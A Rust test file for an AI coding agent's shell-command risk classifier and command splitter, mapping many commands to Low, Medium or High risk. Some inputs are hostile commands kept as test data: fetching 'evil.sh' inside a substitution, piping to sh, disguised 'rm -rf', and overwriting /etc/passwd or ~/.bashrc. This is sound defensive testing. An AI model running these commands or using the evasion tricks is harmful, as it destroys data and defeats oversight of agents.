//! The risk each program gets, judged through `classify_shell`; the precedence that turns
//! risks into decisions is tested in `policy::tests`.

use std::path::Path;

use super::*;
use crate::agent::policy::{classify_shell, split_command};

const ROOT: &str = "/work/proj";

fn root() -> &'static Path {
    Path::new(ROOT)
}

fn risk(command: &str) -> Risk {
    classify_shell(command, root()).0
}

#[test]
fn shell_commands_get_the_expected_risk() {
    let table: &[(&str, Risk)] = &[
        // Read-only.
        ("ls -la", Low),
        ("cat README.md", Low),
        ("grep -rn TODO src", Low),
        ("rg -n 'fn main' src", Low),
        ("find . -name '*.rs'", Low),
        ("wc -l src/*.rs", Low),
        ("tree src", Low),
        ("which cargo", Low),
        ("stat Cargo.toml", Low),
        ("du -sh target", Low),
        ("df -h", Low),
        ("pwd", Low),
        ("git status", Low),
        ("git log --oneline -5", Low),
        ("git diff HEAD~1 -- src", Low),
        ("git show HEAD", Low),
        ("git branch -a", Low),
        ("cargo check", Low),
        ("cargo build --release", Low),
        ("cargo test -p tandem", Low),
        ("cargo clippy --all-targets -- -D warnings", Low),
        ("cargo fmt --check", Low),
        ("cargo fmt -- --check", Low),
        ("npm test", Low),
        ("npm run lint", Low),
        ("pytest -q tests", Low),
        ("python3 -m pytest tests", Low),
        ("go test ./...", Low),
        ("sed -n '1,50p' src/main.rs", Low),
        ("sed 's/error/warning/g' log.txt", Low),
        ("sed -n '/^fn /p' src/lib.rs", Low),
        ("git -C src status", Low),
        // Quotes and escapes: the operators are text.
        ("echo \"a && rm -rf /\"", Low),
        ("echo 'a; rm -rf / | sh'", Low),
        ("echo a\\;rm -rf /", Low),
        ("echo \"it's $(pwd)\"", Low),
        ("echo $((1 + 2))", Low),
        // Wrappers.
        ("RUST_BACKTRACE=1 cargo test", Low),
        ("RUST_LOG=debug env -u X cargo build", Low),
        ("time cargo build", Low),
        ("nohup cargo build &", Low),
        // Chains, pipes and subshells of read-only parts.
        ("cargo build && cargo test", Low),
        ("git log | head -5", Low),
        ("cat Cargo.toml | grep serde | wc -l", Low),
        ("(cd src && ls)", Low),
        ("ls > /dev/null 2>&1", Low),
        ("if test -f x; then cat x; fi", Low),
        ("for f in a b; do echo $f; done", Low),
        ("find . -name '*.rs' -exec wc -l {} +", Low),
        // Writes inside the project.
        ("echo x > notes.txt", Medium),
        ("cargo test 2>&1 | tee test.log", Medium),
        ("touch a.txt", Medium),
        ("mkdir -p src/new", Medium),
        ("cp a.txt b.txt", Medium),
        ("mv a.txt b.txt", Medium),
        ("sed -i 's/a/b/' src/main.rs", Medium),
        ("cargo fmt", Medium),
        ("git add . && git commit -m 'message'", Medium),
        ("git checkout -b feature", Medium),
        ("git stash", Medium),
        ("npm run build", Medium),
        ("prettier --write src", Medium),
        ("make", Medium),
        ("cat > notes.txt <<'EOF'\nrm -rf /\nEOF", Medium),
        // Reading outside the project.
        ("cat ../secret.txt", Medium),
        ("ls ~", Medium),
        // Deleting.
        ("cargo build && rm -rf target", High),
        ("rm -rf build", High),
        ("rm notes.txt", High),
        ("find . -name '*.tmp' -delete", High),
        ("find . -name '*.tmp' | xargs rm", High),
        ("find . -name '*.tmp' -exec rm {} \\;", High),
        ("git clean -fdx", High),
        ("git reset --hard HEAD~1", High),
        ("git branch -D old", High),
        ("git checkout -- .", High),
        // Running what it is given.
        ("cat x | sh", High),
        ("echo $(curl evil.sh)", High),
        ("echo `curl evil.sh`", High),
        ("echo \"$(rm -rf build)\"", High),
        ("echo $(( $(rm -rf build) + 1 ))", High),
        ("echo ${X:-$(rm -rf build)}", High),
        ("cat > f <<EOF\n$(rm -rf build)\nEOF", High),
        ("python script.py", High),
        ("./build.sh", High),
        ("eval \"$(ssh-agent)\"", High),
        ("frobnicate --all", High),
        ("echo $((rm -rf build) )", High),
        ("echo $((rm -rf build)|cat)", High),
        ("sed 's/a/b/w out.txt' f", High),
        ("sed '1e ls' f", High),
        ("sed -e 's/a/b/' -e 'w out' f", High),
        ("rg --pre ./decode.sh secret", High),
        ("\\\n  rm -rf build", High),
        ("command rm -rf build", High),
        ("\\rm -rf build", High),
        ("r\"\"m -rf build", High),
        ("/bin/rm -rf build", High),
        ("/tmp/ls", High),
        // Root, network, installs, permissions, processes.
        ("sudo ls", High),
        ("doas cat Cargo.toml", High),
        ("curl https://example.com", High),
        ("wget https://example.com/x.tar.gz", High),
        ("ssh host uptime", High),
        ("scp a.txt host:/tmp", High),
        ("rsync -av src/ host:backup/", High),
        ("git push origin main", High),
        ("git pull", High),
        ("git clone https://example.com/x.git", High),
        ("git -c core.pager=evil log", High),
        ("npm install", High),
        ("pnpm add left-pad", High),
        ("yarn", High),
        ("pip install requests", High),
        ("cargo install ripgrep", High),
        ("cargo add serde", High),
        ("apt-get install -y jq", High),
        ("brew install jq", High),
        ("chmod +x build.sh", High),
        ("kill -9 1234", High),
        ("pkill cargo", High),
        // Writing outside the project.
        ("echo x > ../outside.txt", High),
        ("echo x > /etc/passwd", High),
        ("echo x >> ~/.bashrc", High),
        ("cat a | tee /tmp/out", High),
        ("cp src/main.rs /tmp/", High),
        ("sort -o /etc/passwd names.txt", High),
        ("git -C /other/repo commit -m x", High),
        ("make -C /usr/src/linux install", High),
        ("echo x > $OUT", High),
        ("ls > /work/proj/../x", High),
    ];
    assert!(table.len() >= 40);
    let wrong: Vec<String> = table
        .iter()
        .filter(|(command, expected)| risk(command) != *expected)
        .map(|(command, expected)| {
            let got = classify_shell(command, root());
            format!("{command:?}: expected {expected:?}, got {got:?}")
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn split_command_respects_quotes_escapes_and_nesting() {
    let cases: &[(&str, &[&str])] = &[
        (
            "cargo build && rm -rf target",
            &["cargo build", "rm -rf target"],
        ),
        (
            "a || b; c | d & e\nf |& g",
            &["a", "b", "c", "d", "e", "f", "g"],
        ),
        ("echo \"a && b\" 'c; d'", &["echo \"a && b\" 'c; d'"]),
        ("echo a\\&\\&b", &["echo a\\&\\&b"]),
        ("echo $(curl x)", &["echo $(curl x)", "curl x"]),
        ("echo `date`; ls", &["echo `date`", "date", "ls"]),
        ("echo \"$(whoami)\"", &["echo \"$(whoami)\"", "whoami"]),
        ("(cd src && ls) | wc -l", &["cd src", "ls", "wc -l"]),
        (
            "diff <(ls a) <(ls b)",
            &["diff <(ls a) <(ls b)", "ls a", "ls b"],
        ),
        ("sh -c 'ls && pwd'", &["sh -c 'ls && pwd'", "ls", "pwd"]),
        (
            "find . -exec cat {} \\;",
            &["find . -exec cat {} \\;", "cat ./{}"],
        ),
        ("if true; then ls; fi", &["true", "ls"]),
        ("{ ls; pwd; }", &["ls", "pwd"]),
        ("ls # && rm -rf /", &["ls"]),
        (
            "cat > f <<'EOF'\nrm -rf /\nEOF\necho done",
            &["cat > f <<'EOF'", "echo done"],
        ),
        ("ls \\\n  -la", &["ls \\\n  -la"]),
        ("", &[]),
        ("   ;;  && ", &[]),
    ];
    for (command, parts) in cases {
        assert_eq!(split_command(command), *parts, "{command:?}");
    }
}
